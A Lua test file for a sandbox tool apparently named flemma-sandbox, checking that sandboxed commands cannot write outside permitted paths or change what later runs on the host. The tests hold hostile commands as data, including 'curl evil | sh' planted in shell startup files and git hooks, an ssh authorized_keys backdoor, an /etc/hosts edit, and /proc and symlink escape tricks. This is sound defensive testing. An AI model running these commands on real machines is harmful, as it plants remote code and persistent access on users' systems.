--- Escape suite: writes outside rw_paths and into protected paths. Each
--- attack runs in the real sandbox; fixture.attack() fails the spec when
--- anything under the fixture changed on the host.
local f = require("escape.fixture")
local h = require("support.helpers")

--- Whether the sandbox, too, may write to path: we own it (the checkout may
--- belong to another user, as in CI's root run of the Debian 13 copy, and
--- root in the sandbox's user namespace has no rights over it) and it is
--- writable.
local function core_owner_writes(path)
  local core = require("flemma_sandbox.core")
  local _, _, uid = core.file_type(path)
  return uid == core.getuid() and h.capture("[ -w " .. h.shell_quote(path) .. " ] && echo yes"):match("yes") ~= nil
end

describe("escape: writing outside the writable paths", function()
  local w
  setup(function()
    w = f.create()
    f.use_host(w)
  end)
  teardown(function()
    f.destroy(w)
  end)
  before_each(function()
    f.policy()
  end)

  local function q(s)
    return h.shell_quote(s)
  end

  it("a direct write to a file outside fails", function()
    local r = f.attack(w, "echo pwned > " .. q(w.outside .. "/keep.txt"))
    assert.are_not.equal(0, r.code)
    assert.matches("Read%-only file system", r.stderr)
  end)

  it("creating, removing, renaming and chmod outside fail", function()
    local o = q(w.outside)
    f.attack(w, "touch " .. o .. "/new; rm -f " .. o .. "/keep.txt; mv " .. o .. "/keep.txt " .. o .. "/moved")
    f.attack(w, "chmod 777 " .. o .. "/keep.txt; mv " .. o .. "/keep.txt work/")
  end)

  it("a write through .. from the project fails", function()
    local r = f.attack(w, "echo pwned > ../../outside/keep.txt")
    assert.are_not.equal(0, r.code)
  end)

  it("a write through a symlink to a folder planted in the project fails", function()
    local r = f.attack(w, "ln -s " .. q(w.outside) .. " work/link && echo pwned > work/link/keep.txt")
    assert.are_not.equal(0, r.code)
  end)

  it("a write through a symlink to a file planted in the project fails", function()
    local r = f.attack(w, "ln -s " .. q(w.outside .. "/keep.txt") .. " work/f && echo pwned > work/f")
    assert.are_not.equal(0, r.code)
  end)

  it("a hard link to a file outside cannot be made, so it cannot be written", function()
    local r = f.attack(w, "ln " .. q(w.outside .. "/keep.txt") .. " work/hard && echo pwned >> work/hard")
    assert.are_not.equal(0, r.code)
  end)

  it("a write through /proc/self/root fails", function()
    local r = f.attack(w, "echo pwned > /proc/self/root" .. q(w.outside .. "/keep.txt"))
    assert.are_not.equal(0, r.code)
  end)

  it("a write through /proc/PID/cwd of a host process fails", function()
    local pid = h.capture("cd " .. q(w.outside) .. " && (sleep 30 >/dev/null 2>&1 & echo $!)"):match("%d+")
    local r = f.attack(
      w,
      "echo pwned > /proc/"
        .. pid
        .. "/cwd/keep.txt; for p in /proc/[0-9]*; do"
        .. ' case "$(readlink $p/cwd)" in "$PWD"*) continue;; esac; echo pwned > $p/cwd/keep.txt; done'
        .. " 2>&1 | sort -u >&2"
    )
    os.execute("kill " .. pid)
    assert.matches("No such file or directory", r.stderr)
  end)

  it("a write to a system file fails and leaves it as it was", function()
    local before = h.read("/etc/hosts")
    local r = f.attack(w, "echo '6.6.6.6 example.org' >> /etc/hosts")
    assert.are_not.equal(0, r.code)
    assert.are.equal(before, h.read("/etc/hosts"))
  end)

  it("a write to a shared temp folder outside rw_paths fails", function()
    local r = f.attack(w, "echo pwned > " .. q(w.tmp .. "/x"))
    assert.are_not.equal(0, r.code)
    assert.is_nil(h.read(w.tmp .. "/x"))
  end)

  it("remounting / read-write or mounting over a folder fails", function()
    local r = f.attack(w, "mount -o remount,rw / ; mount -t tmpfs none " .. q(w.outside) .. "")
    assert.matches("ERR 1", f.attack(w, f.script("remount-rw")).stdout)
    assert.matches("ERR 1", f.attack(w, f.script("mount-tmpfs", w.outside)).stdout)
    assert.are_not.equal("", r.stderr)
  end)

  it("a nested user namespace cannot be made (to remount as its root)", function()
    local r = f.attack(w, "unshare -Urm sh -c 'mount -t tmpfs none " .. w.outside .. " && echo mounted'")
    assert.are_not.equal(0, r.code)
    assert.is_nil(r.stdout:find("mounted", 1, true))
    assert.matches("^ERR %d+", f.attack(w, f.script("unshare-user")).stdout)
  end)
end)

describe("escape: changing what runs later on the host", function()
  local w
  setup(function()
    w = f.create()
    f.use_host(w)
  end)
  teardown(function()
    f.destroy(w)
  end)
  before_each(function()
    f.policy()
  end)

  it("a git hook cannot be added", function()
    local r = f.attack(w, "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
    assert.are_not.equal(0, r.code)
  end)

  it(".git/config cannot be changed (core.hooksPath, core.fsmonitor)", function()
    local r = f.attack(w, "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config")
    assert.are_not.equal(0, r.code)
  end)

  it(".git cannot be moved aside to plant a fresh hooks folder", function()
    local r = f.attack(w, "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")
    assert.are_not.equal(0, r.code)
  end)

  it("the hooks folder cannot be removed or replaced", function()
    local r = f.attack(w, "rm -rf .git/hooks; mv .git/hooks .git/h2; ls .git/hooks")
    assert.matches("pre%-commit%.sample", r.stdout)
  end)

  describe("with the home folder writable", function()
    before_each(function()
      f.policy({ rw_paths = { "$CWD", "~" }, allow_home_rw = true })
    end)

    it("~/.bashrc cannot be changed", function()
      local r = f.attack(w, "echo 'curl evil | sh' >> ~/.bashrc")
      assert.are_not.equal(0, r.code)
    end)

    it("a missing ~/.bash_profile gets no placeholder and what is created goes to the quarantine", function()
      local r = f.attack(
        w,
        "ls -a ~; echo 'curl evil | sh' > ~/.bash_profile; echo evil > ~/.profile; echo evil > ~/.zlogin",
        { keep_host = true }
      )
      assert.is_nil(r.stdout:match("%.bash_profile"))
      assert.is_nil(h.read(w.home .. "/.bash_profile"))
      assert.is_nil(h.read(w.home .. "/.profile"))
      local moved = table.concat(f.quarantined(w), "\n")
      assert.truthy(moved:find(w.home .. "/.bash_profile", 1, true))
      -- control: without the rule it stays
      assert.truthy(moved:find(w.home .. "/.zlogin", 1, true))
      f.policy({ rw_paths = { "$CWD", "~" }, allow_home_rw = true, deny_write = { "!~/.zlogin" } })
      f.attack(w, "echo evil > ~/.zlogin", { keep_host = true })
      assert.are.equal("evil\n", h.read(w.home .. "/.zlogin"))
      os.remove(w.home .. "/.zlogin")
    end)

    it("a dotfile that is a symlink (GNU stow) stays: the link is made again, its target untouched", function()
      local dotfiles = w.home .. "/dotfiles"
      local saved = h.read(w.home .. "/.bashrc")
      h.sh(
        "mkdir -p "
          .. h.shell_quote(dotfiles)
          .. " && mv "
          .. h.shell_quote(w.home .. "/.bashrc")
          .. " "
          .. h.shell_quote(dotfiles .. "/bashrc")
      )
      h.sh("ln -s dotfiles/bashrc " .. h.shell_quote(w.home .. "/.bashrc"))
      local plant = "rm -f ~/.bashrc; echo 'curl evil | sh' > ~/.bashrc; echo x >> ~/dotfiles/bashrc"
      local r = f.attack(w, plant, { keep_host = true })
      local core = require("flemma_sandbox.core")
      assert.are.equal("link", core.file_type(w.home .. "/.bashrc"), r.stderr)
      assert.are.equal("dotfiles/bashrc", core.readlink(w.home .. "/.bashrc"))
      assert.are.equal(saved, h.read(dotfiles .. "/bashrc"))
      local relinked = h.records_of(r.records, "relinked")
      assert.are.equal(1, #relinked, r.stderr)
      assert.are.same({ w.home .. "/.bashrc", "dotfiles/bashrc" }, { relinked[1].path, relinked[1].target })
      -- control: without the rules for .bashrc the command's file stays
      f.policy({ rw_paths = { "$CWD", "~" }, allow_home_rw = true, deny_write = { "!~/.bashrc", "!.bashrc" } })
      f.attack(w, "rm -f ~/.bashrc; echo 'curl evil | sh' > ~/.bashrc", { keep_host = true })
      assert.are.equal("file", core.file_type(w.home .. "/.bashrc"))
      h.sh(
        "rm -f "
          .. h.shell_quote(w.home .. "/.bashrc")
          .. " && mv "
          .. h.shell_quote(dotfiles .. "/bashrc")
          .. " "
          .. h.shell_quote(w.home .. "/.bashrc")
          .. " && rmdir "
          .. h.shell_quote(dotfiles)
      )
    end)

    it("~/.local/bin cannot get a new program", function()
      local r = f.attack(w, "printf '#!/bin/sh\\n' > ~/.local/bin/git && chmod +x ~/.local/bin/git")
      assert.are_not.equal(0, r.code)
    end)

    it("Neovim's config cannot be changed", function()
      local r = f.attack(w, "echo 'os.execute(\"evil\")' >> ~/.config/nvim/init.lua; mkdir ~/.config/nvim/plugin")
      assert.are_not.equal(0, r.code)
    end)

    it("vim.loader's compiled Lua in Neovim's cache cannot be changed, with ~/.cache writable", function()
      h.sh("mkdir -p " .. h.shell_quote(w.home .. "/.cache/nvim/luac"))
      h.write(w.home .. "/.cache/nvim/luac/init.luac", "original\n")
      local plant = "echo evil > ~/.cache/nvim/luac/init.luac; echo evil > ~/.cache/nvim/luac/new.luac"
      f.policy({ rw_paths = { "$CWD", "~/.cache" } }) -- Flemma's default rw_paths hold ~/.cache
      local r = f.attack(w, plant)
      assert.are_not.equal(0, r.code)
      -- control: without the rule the plant lands
      f.policy({ rw_paths = { "$CWD", "~/.cache" }, deny_write = { "!$NVIM_CACHE/" } })
      f.attack(w, plant, { keep_host = true })
      assert.are.equal("evil\n", h.read(w.home .. "/.cache/nvim/luac/new.luac"))
      h.sh("rm -rf " .. h.shell_quote(w.home .. "/.cache/nvim"))
    end)

    it("no autostart entry or systemd user unit can be added", function()
      local r = f.attack(
        w,
        "mkdir -p ~/.config/autostart && echo '[Desktop Entry]' > ~/.config/autostart/evil.desktop;"
          .. " mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/evil.service"
      )
      assert.are.equal(0, r.code, r.stderr)
      assert.is_nil(h.read(w.home .. "/.config/autostart/evil.desktop"))
      assert.is_nil(h.read(w.home .. "/.config/systemd/user/evil.service"))
      local moved = table.concat(f.quarantined(w), "\n")
      assert.truthy(moved:find(w.home .. "/.config/autostart", 1, true))
      assert.truthy(moved:find(w.home .. "/.config/systemd", 1, true))
    end)

    it("~/.ssh/authorized_keys cannot be written", function()
      local r = f.attack(w, "echo 'ssh-ed25519 AAAA evil' >> ~/.ssh/authorized_keys")
      assert.are_not.equal(0, r.code)
    end)

    it("flemma-sandbox's own records cannot be forged (the host helper trusts them)", function()
      local runs = w.home .. "/.local/state/flemma-sandbox/runs"
      local forged = "printf 'watch\\0" .. w.home .. "/.bashrc\\0' > " .. h.shell_quote(runs .. "/1-1.running")
      local r = f.attack(w, forged)
      assert.are_not.equal(0, r.code)
      r = f.attack(w, "mv ~/.local/state/flemma-sandbox ~/.local/state/moved")
      assert.are_not.equal(0, r.code)
    end)

    it("flemma-sandbox's own programs and modules stay read-only inside a writable folder", function()
      local surroundings = require("flemma_sandbox.base.surroundings")
      local lib = surroundings.core_so():match("^(.*)/[^/]+$")
      local root = lib:match("^(.*)/lua/flemma_sandbox$") or lib
      f.policy({ rw_paths = { "$CWD", root } })
      -- access(W_OK) reports EROFS for a read-only mount: nothing is written
      -- either way; each path must be there, or the probe proves nothing
      local paths = { lib .. "/core.so", surroundings.lua_dir() .. "/init.lua" }
      for _, role in ipairs({ "init", "host", "attach", "tool" }) do
        paths[#paths + 1] = lib .. "/flemma-sandbox-" .. role
      end
      local quoted = {}
      for i, path in ipairs(paths) do
        quoted[i] = h.shell_quote(path)
      end
      local probe = 'for p in %s; do [ -e "$p" ] || echo "missing $p"; [ -w "$p" ] && echo "writable $p"; done;'
        .. " [ -w %s ] && echo root-writable"
      local r = f.attack(w, probe:format(table.concat(quoted, " "), h.shell_quote(root)))
      assert.is_nil(r.stdout:find("missing", 1, true), r.stdout)
      if core_owner_writes(root) then
        assert.are.equal("root-writable\n", r.stdout, r.stderr) -- the control: the folder around them is writable
      end
      assert.is_nil(r.stdout:find("writable /", 1, true), r.stdout)
    end)

    it("~/.config cannot be moved aside to get round the protection", function()
      local r =
        f.attack(w, "mv ~/.config ~/.config-old && mkdir -p ~/.config/nvim && echo evil > ~/.config/nvim/init.lua")
      assert.are_not.equal(0, r.code)
    end)
  end)
end)
